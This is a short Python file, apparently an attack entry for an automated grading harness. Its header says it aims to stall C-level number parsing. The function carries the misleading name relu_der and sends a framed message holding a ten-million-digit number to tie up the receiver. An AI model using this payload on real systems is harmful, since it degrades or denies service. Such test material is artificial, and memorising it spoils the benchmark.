# /// attack
# tries = "Send a decimal number of ten million digits, whose conversion takes time in C code."
# verdicts = ["wrong_answer", "runtime_error"]
# graded = true
# ///
import struct

def relu_der(dA, cache):
    header = b'{"t":[%d,"ok",0.' % request_number() + b"1" * 10_000_000 + b"]}"
    send(struct.pack("<IQ", len(header), 0) + header)
    return dA
